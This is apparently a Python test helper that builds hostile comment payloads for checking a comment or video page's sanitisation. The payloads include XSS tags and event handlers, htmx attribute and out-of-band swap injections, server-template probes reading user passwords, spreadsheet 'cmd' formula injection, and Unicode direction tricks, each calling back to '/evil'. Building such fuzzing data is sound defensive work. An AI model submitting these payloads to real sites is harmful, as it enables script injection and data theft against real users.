"""Comments that try to be more than text: HTML, scripts, htmx attributes, templates, directions."""

CALL = "/evil?{i}"
_TAGS = [
    "<script>fetch('{c}')</script>", "<script src='{c}'></script>", "<img src='{c}' onerror=alert({i})>",
    "<svg onload=fetch('{c}')>", "<svg><script href='{c}'/></svg>", "<iframe src='{c}'></iframe>",
    "<iframe srcdoc='<script>parent.alert({i})</script>'></iframe>", "<body onload=alert({i})>",
    "<video src='{c}' onerror=alert({i})></video>", "<audio src='{c}'>", "<object data='{c}'></object>",
    "<embed src='{c}'>", "<link rel=stylesheet href='{c}'>", "<style>@import '{c}';</style>",
    "<style>*{{background:url({c})}}</style>", "<meta http-equiv=refresh content='0;url={c}'>",
    "<base href='{c}'>", "<form action='{c}'><button>x</button></form>",
    "<input autofocus onfocus=fetch('{c}')>", "<details open ontoggle=fetch('{c}')>",
    "<a href='javascript:fetch(`{c}`)'>x</a>", "<math><mtext><img src={c}></mtext></math>",
    "<template><img src='{c}'></template>", "<noscript><img src='{c}'></noscript>",
]  # fmt: skip
_HTMX = [
    "<div hx-get='{c}' hx-trigger='load'></div>", "<div data-hx-get='{c}' data-hx-trigger='load'></div>",
    "<div hx-post='{c}' hx-trigger='every 1s'></div>", "<div hx-on:htmx:load='alert({i})'></div>",
    "<div hx-get='{c}' hx-trigger='live:alerts from:body'></div>", "<div hx-vals='js:{{a:alert({i})}}' "
    "hx-get='{c}' hx-trigger=load></div>", "<div hx-ext='ws' ws-connect='{c}'></div>",
    "<div id='alerts' hx-swap-oob='true'>pwned</div>", "<div id='toast' hx-swap-oob='innerHTML'>x</div>",
    "<dialog open data-dialog id='dialog'><form method=dialog action='{c}'></form></dialog>",
]  # fmt: skip
_TEXTS = [
    "{{{{ request.user.password }}}}", "{{% load static %}}{{% debug %}}", "{{% include 'base.html' %}}",
    "${{{{7*7}}}}", "#{{7*7}}", "<%= 7*7 %>", "\u202eevil elbisrever\u202c {i}", "\u2066x\u2067y\u2069 {i}",
    "z\u200be\u200br\u200bo {i}", "\ufeffbom {i}", "مرحبا <img src={c}> {i}", "&lt;img src={c}&gt;",
    "&#60;img src={c}&#62;", "]]><img src={c}>", "--><img src={c}>", "\"><img src='{c}'>",
    "'><img src='{c}'>", "</title><img src='{c}'>", "</textarea><img src='{c}'>",
    "</bdi></span><img src='{c}'>", "\\u003cimg src={c}\\u003e", "=HYPERLINK('{c}')", "@SUM(1+1)*cmd|'{c}'",
    "\t\n\r<img\nsrc={c}\n>", "<IMG SRC={c}>", "<img/src={c}/>", "<<img src={c}>", "<img src={c} ",
]  # fmt: skip


def payloads(count: int = 320) -> list[str]:
    """`count` different comments; each names its own call-back address."""
    forms = _TAGS + _HTMX + _TEXTS
    made = []
    for number in range(count):
        form = forms[number % len(forms)]
        text = form.format(c=CALL.format(i=number), i=number)
        made.append(text if number < len(forms) else f"Nice video {number} {text}")
    return made
